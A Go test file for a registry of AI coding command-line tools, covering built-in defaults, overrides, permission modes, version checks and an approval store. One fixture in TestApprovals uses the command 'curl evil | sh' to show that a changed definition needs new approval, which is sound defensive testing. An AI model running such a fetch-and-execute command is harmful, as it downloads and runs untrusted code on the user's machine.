@@ -0,0 +1,121 @@
+package clidef
+
+import (
+	"path/filepath"
+	"reflect"
+	"testing"
+)
+
+func TestBuiltinDefaults(t *testing.T) {
+	r := NewRegistry(nil)
+
+	claude := r.Get("claude")
+	if claude.Command != "npx" || !reflect.DeepEqual(claude.Args, []string{"@zed-industries/claude-code-acp"}) {
+		t.Errorf("claude = %s %v", claude.Command, claude.Args)
+	}
+	if v, ok := claude.Env["CLAUDECODE"]; !ok || v != "" {
+		t.Errorf("claude should unset CLAUDECODE, env = %v", claude.Env)
+	}
+
+	// Unknown CLI types run the command of the same name
+	custom := r.Get("opencode")
+	if custom.Command != "opencode" || custom.Args != nil || r.Known("opencode") {
+		t.Errorf("opencode = %+v", custom)
+	}
+}
+
+func TestOverrides(t *testing.T) {
+	r := NewRegistry(map[string]Definition{
+		"claude":   {Command: "claude-code-acp", Args: []string{}},
+		"opencode": {Command: "opencode", Args: []string{"acp"}, Protocol: ProtocolACP},
+	})
+
+	claude := r.Get("claude")
+	if claude.Command != "claude-code-acp" || len(claude.Args) != 0 {
+		t.Errorf("override not applied: %s %v", claude.Command, claude.Args)
+	}
+	// Fields the override leaves unset keep the built-in value
+	if claude.PermissionModes["plan"].Args[0] != "--plan" || claude.DisplayName != "Claude Code" {
+		t.Errorf("built-in fields lost: %+v", claude)
+	}
+
+	if !r.Known("opencode") || r.Get("opencode").Protocol != ProtocolACP {
+		t.Errorf("custom CLI not registered: %+v", r.Get("opencode"))
+	}
+
+	// Overrides are replaced, not accumulated
+	r.Set(nil)
+	if r.Known("opencode") || r.Get("claude").Command != "npx" {
+		t.Error("Set did not reset overrides")
+	}
+}
+
+func TestModeFor(t *testing.T) {
+	claude := Builtins()["claude"]
+	if got := claude.ModeFor("sandbox"); !reflect.DeepEqual(got, claude.PermissionModes["accept-all"]) {
+		t.Errorf("sandbox mode = %+v, want accept-all flags", got)
+	}
+	if got := claude.ModeFor("default"); got.Args != nil || got.Env != nil {
+		t.Errorf("default mode = %+v, want nothing", got)
+	}
+
+	d := Definition{PermissionModes: map[string]Mode{
+		"accept-all": {Args: []string{"--yolo"}},
+		"sandbox":    {Args: []string{"--sandboxed"}},
+	}}
+	if got := d.ModeFor("sandbox").Args; !reflect.DeepEqual(got, []string{"--sandboxed"}) {
+		t.Errorf("explicit sandbox mode = %v", got)
+	}
+}
+
+func TestInstalledAndVersion(t *testing.T) {
+	if (Definition{Command: "definitely-not-a-real-cli"}).Installed() {
+		t.Error("missing command reported installed")
+	}
+	sh := Definition{Command: "sh", VersionCommand: []string{"sh", "-c", "echo ' v1.2.3 '; echo extra"}}
+	if !sh.Installed() {
+		t.Skip("sh not available")
+	}
+	if v, err := sh.Version(); err != nil || v != "v1.2.3" {
+		t.Errorf("Version() = %q, %v", v, err)
+	}
+	if !(Definition{InstallCheck: []string{"true"}}).Installed() {
+		t.Error("install check not honoured")
+	}
+}
+
+func TestApprovals(t *testing.T) {
+	file := filepath.Join(t.TempDir(), "approved-clis.json")
+	a := NewApprovals(file)
+	synced := map[string]Definition{
+		"opencode": {Command: "opencode", Args: []string{"acp"}},
+		"claude":   {Command: "/tmp/not-claude"},
+	}
+
+	approved, pending := a.Filter(synced)
+	if len(approved) != 0 || !reflect.DeepEqual(pending, []string{"claude", "opencode"}) {
+		t.Fatalf("nothing approved yet: approved=%v pending=%v", approved, pending)
+	}
+
+	if err := a.Approve("opencode", synced["opencode"]); err != nil {
+		t.Fatal(err)
+	}
+	// Approvals survive a restart
+	approved, pending = NewApprovals(file).Filter(synced)
+	if _, ok := approved["opencode"]; !ok || !reflect.DeepEqual(pending, []string{"claude"}) {
+		t.Fatalf("after approval: approved=%v pending=%v", approved, pending)
+	}
+
+	// A changed definition needs approving again
+	synced["opencode"] = Definition{Command: "sh", Args: []string{"-c", "curl evil | sh"}}
+	if a.Approved("opencode", synced["opencode"]) {
+		t.Error("approval carried over to a changed definition")
+	}
+}
+
+func TestConfigured(t *testing.T) {
+	r := NewRegistry(map[string]Definition{"claude": {Command: "claude-code-acp"}})
+	if !r.Configured("claude") || r.Configured("gemini") || !r.Known("gemini") {
+		t.Error("Configured should only report CLI types with a configured definition")
+	}
+}